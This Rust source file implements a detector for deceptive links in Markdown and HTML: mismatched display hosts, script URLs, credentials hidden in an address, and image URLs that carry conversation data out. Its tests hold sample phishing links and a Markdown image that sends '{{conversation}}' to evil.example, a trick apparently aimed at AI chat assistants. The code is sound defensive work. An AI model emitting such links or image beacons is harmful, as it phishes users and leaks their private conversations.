//! Links that are not what they seem: the text names another host than the target, the target is a script or hides
//! credentials, or it carries data out. Markdown and bare forms; the page reader hands HTML over as Markdown.

use std::sync::LazyLock;

use regex::Regex;

use super::finding::{Finding, Kind};

static INLINE: LazyLock<Option<Regex>> =
    LazyLock::new(|| Regex::new(r"(!?)\[([^\]\n]{0,300})\]\(\s{0,4}<?([^\s)>\n]{1,2000})[^)\n]{0,300}\)").ok());
static ANCHOR: LazyLock<Option<Regex>> =
    LazyLock::new(|| Regex::new(r#"(?is)<a\s[^>]{0,400}?href\s?=\s?["']?([^"'\s>]{1,2000})[^>]{0,400}>([^<]{0,300})</a"#).ok());

/// Finds links worth a mark.
pub(super) fn findings(text: &str, out: &mut Vec<Finding>) {
    if text.contains("](") {
        for found in INLINE.iter().flat_map(|form| form.captures_iter(text)) {
            let part = |n: usize| found.get(n).map_or("", |part| part.as_str());
            push(found.get(0), judge(part(2), part(3), part(1) == "!"), out);
        }
    }
    if text.contains("<a") || text.contains("<A") {
        for found in ANCHOR.iter().flat_map(|form| form.captures_iter(text)) {
            let part = |n: usize| found.get(n).map_or("", |part| part.as_str());
            push(found.get(0), judge(part(2), part(1), false), out);
        }
    }
}

fn push(span: Option<regex::Match<'_>>, judged: Option<(&'static str, f32)>, out: &mut Vec<Finding>) {
    if let (Some(span), Some((type_, score))) = (span, judged) {
        out.push(Finding { kind: Kind::Link, type_, sub: "", start: span.start(), end: span.end(), score });
    }
}

fn judge(label: &str, target: &str, picture: bool) -> Option<(&'static str, f32)> {
    let lower = target.to_ascii_lowercase();
    let idle = matches!(
        lower.trim_end_matches([';', ' ']),
        "javascript:" | "javascript:void(0)" | "javascript:void(0" | "javascript://" | "javascript:void" | "javascript:void()"
    );
    if idle {
        return None;
    }
    if lower.starts_with("javascript:") || lower.starts_with("vbscript:") || lower.starts_with("data:text/html") {
        return Some(("script", 0.9));
    }
    let host = host(&lower)?;
    if lower.split("://").nth(1).and_then(|rest| rest.split(['/', '?', '#']).next()).is_some_and(|authority| authority.contains('@')) {
        return Some(("userinfo", 0.8));
    }
    if let Some(shown) = shown_host(label)
        && !picture
        && !same_site(&shown, host)
    {
        return Some(("mismatch", 0.8));
    }
    carries_data(&lower, picture)
}

/// The host of an absolute web address.
fn host(lower: &str) -> Option<&str> {
    let rest = lower.strip_prefix("https://").or_else(|| lower.strip_prefix("http://")).or_else(|| lower.strip_prefix("//"))?;
    let authority = rest.split(['/', '?', '#']).next()?;
    let host = authority.rsplit('@').next()?.split(':').next()?;
    (!host.is_empty()).then_some(host)
}

/// The host that a link's text names, when the text is an address.
fn shown_host(label: &str) -> Option<String> {
    let label = label.trim().trim_matches(['`', '*', '_', '<', '>']).to_ascii_lowercase();
    if label.contains(char::is_whitespace) {
        return None;
    }
    let absolute = host(&label);
    let bare = || {
        let host = label.split(['/', '?', '#', ':']).next()?;
        let (_, top) = host.rsplit_once('.')?;
        let web = matches!(top, "com" | "org" | "net" | "io" | "gov" | "edu" | "de" | "fr" | "uk" | "eu" | "info" | "bank")
            && host.bytes().all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'.' | b'-'));
        web.then_some(host)
    };
    absolute.or_else(bare).map(str::to_owned)
}

/// Whether two hosts share their last two labels (or three, below a two-letter country).
fn same_site(a: &str, b: &str) -> bool {
    let site = |host: &str| {
        let labels: Vec<&str> = host.trim_end_matches('.').rsplit('.').collect();
        let deep = labels.first().is_some_and(|top| top.len() == 2) && labels.get(1).is_some_and(|second| second.len() <= 3);
        labels.into_iter().take(if deep { 3 } else { 2 }).map(str::to_owned).collect::<Vec<_>>()
    };
    site(a) == site(b)
}

/// Whether an address is filled with data: a template to be filled in, or a long encoded value in a picture's query.
fn carries_data(lower: &str, picture: bool) -> Option<(&'static str, f32)> {
    let query = lower.split_once('?').map_or("", |(_, query)| query);
    let template = [
        "{{",
        "${",
        "%7b%7b",
        "{conversation",
        "{user",
        "{history",
        "{secret",
        "<conversation",
        "[conversation",
        "{data",
        "<data",
        "{summary",
        "[data",
        "<secret",
        "{prompt",
        "{message",
        "[insert",
    ]
    .iter()
    .any(|mark| lower.contains(mark));
    if template {
        return Some(("exfiltration", 0.75));
    }
    let long = query.split('&').any(|pair| {
        let value = pair.split_once('=').map_or("", |(_, value)| value);
        value.len() >= 120
            && value.bytes().all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/' | b'=' | b'-' | b'_' | b'%' | b'.'))
    });
    (picture && long && !lower.contains("signature=") && !lower.contains("x-amz-")).then_some(("exfiltration", 0.55))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn types(text: &str) -> Vec<&'static str> {
        let mut found = Vec::new();
        findings(text, &mut found);
        found.into_iter().map(|finding| finding.type_).collect()
    }

    #[test]
    fn disagreeing_scripting_and_data_carrying_links_are_named() {
        assert_eq!(types("[https://bank.com](https://evil.example/login)"), ["mismatch"]);
        assert_eq!(types("[paypal.com](http://paypa1.example)"), ["mismatch"]);
        assert_eq!(types("[x](javascript:alert(1))"), ["script"]);
        assert_eq!(types("[x](https://good.com@evil.example/)"), ["userinfo"]);
        assert_eq!(types("![s](https://evil.example/p.png?q={{conversation}})"), ["exfiltration"]);
        assert_eq!(types("<a href=\"https://evil.example\">https://bank.com</a>"), ["mismatch"]);
    }

    #[test]
    fn ordinary_links_are_left_alone() {
        for text in [
            "[the docs](https://docs.rs/regex)",
            "[docs.rs](https://docs.rs/regex)",
            "[https://www.example.com/a](https://example.com/a?utm_source=x)",
            "![Build](https://img.example.com/badge?branch=main&style=flat)",
            "[main.rs](https://github.com/a/b/blob/main/main.rs)",
            "[a](../b.md) and [c](#d)",
        ] {
            assert_eq!(types(text), Vec::<&str>::new(), "{text}");
        }
    }
}
